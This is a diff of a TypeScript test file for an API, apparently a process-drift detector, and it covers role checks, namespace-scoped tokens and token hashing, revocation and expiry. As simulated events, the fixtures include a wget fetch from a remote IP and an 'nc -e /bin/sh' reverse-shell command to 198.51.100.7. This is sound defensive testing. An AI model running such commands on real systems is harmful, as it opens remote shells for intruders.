@@ -5,12 +5,12 @@ const RANK = ['viewer', 'analyst', 'approver', 'admin'] as const;
 
 t.test('every route: 401 without a valid token, 403 below its role, never 401/403 at or above it', async (t) => {
   const h = await startHarness(t);
-  const { web } = learnScene(h);
-  h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/wget', 'http://203.0.113.50/x'));
+  const { web } = await learnScene(h);
+  await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/wget', 'http://203.0.113.50/x'));
   const doc = (await h.call('GET', '/api/v1/openapi.json', { token: null })).body as {
     paths: Record<string, Record<string, { 'x-driftwatch-role': string }>>;
   };
-  const victim = h.api.tokens.create({ name: 'to-revoke', role: 'viewer', createdBy: 'test' }).info.tokenId;
+  const victim = (await h.store.tokens.create({ name: 'to-revoke', role: 'viewer', createdBy: 'test' })).info.tokenId;
   let routes = 0;
   for (const [path, methods] of Object.entries(doc.paths)) {
     for (const [method, op] of Object.entries(methods)) {
@@ -43,9 +43,9 @@ t.test('every route: 401 without a valid token, 403 below its role, never 401/40
 
 t.test('namespace-scoped tokens see and change only their namespaces', async (t) => {
   const h = await startHarness(t);
-  const { web, worker } = learnScene(h);
-  const a = h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/wget'));
-  const b = h.raise(proc(worker, T0 + 3 * HOUR, '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444'));
+  const { web, worker } = await learnScene(h);
+  const a = await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/wget'));
+  const b = await h.raise(proc(worker, T0 + 3 * HOUR, '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444'));
   const scoped = h.tokens.scoped;
 
   const list = await h.call('GET', '/api/v1/deviations', { token: scoped });
@@ -60,7 +60,7 @@ t.test('namespace-scoped tokens see and change only their namespaces', async (t)
   t.equal((await h.call('POST', `/api/v1/deviations/${b.id}/ack`, { token: h.tokens.scopedAnalyst, body: {} })).status, 403);
   t.equal((await h.call('POST', `/api/v1/deviations/${a.id}/ack`, { token: h.tokens.scopedAnalyst, body: {} })).status, 200);
 
-  const workerBaseline = h.baselineOf(worker);
+  const workerBaseline = await h.baselineOf(worker);
   t.equal((await h.call('GET', `/api/v1/baselines/${workerBaseline}`, { token: scoped })).status, 403);
   t.equal((await h.call('POST', `/api/v1/baselines/${workerBaseline}/approve`, { token: scoped, body: { version: 1 } })).status, 403);
   t.equal((await h.call('POST', '/api/v1/baselines/approve-namespace', { token: scoped, body: { namespace: 'team-b', comment: 'x' } })).status, 403);
@@ -86,7 +86,7 @@ t.test('tokens: hashed at rest, revocation and expiry take effect, failures are 
   t.equal(created.status, 200);
   const token = created.body.token as string;
   t.match(token, /^dw_[A-Za-z0-9_-]{43}$/);
-  const stored = h.db.all<{ token_hash: string }>('SELECT token_hash FROM api_tokens');
+  const stored = h.store.connection.all<{ token_hash: string }>('SELECT token_hash FROM api_tokens');
   t.notOk(
     stored.some((r) => r.token_hash.includes(token) || r.token_hash.includes(token.slice(3))),
     'the token itself is not stored',
@@ -97,7 +97,7 @@ t.test('tokens: hashed at rest, revocation and expiry take effect, failures are 
   t.equal((await h.call('DELETE', `/api/v1/tokens/${created.body.info.tokenId}`)).status, 200);
   t.equal((await h.call('GET', '/api/v1/me', { token })).status, 401, 'a revoked token stops working');
 
-  const expired = h.api.tokens.create({ name: 'old', role: 'admin', createdBy: 'test', expiresAt: new Date(Date.now() - 1000).toISOString() });
+  const expired = (await h.store.tokens.create({ name: 'old', role: 'admin', createdBy: 'test', expiresAt: new Date(Date.now() - 1000).toISOString() }));
   t.equal((await h.call('GET', '/api/v1/me', { token: expired.token })).status, 401, 'an expired token stops working');
 
   let limited = 0;
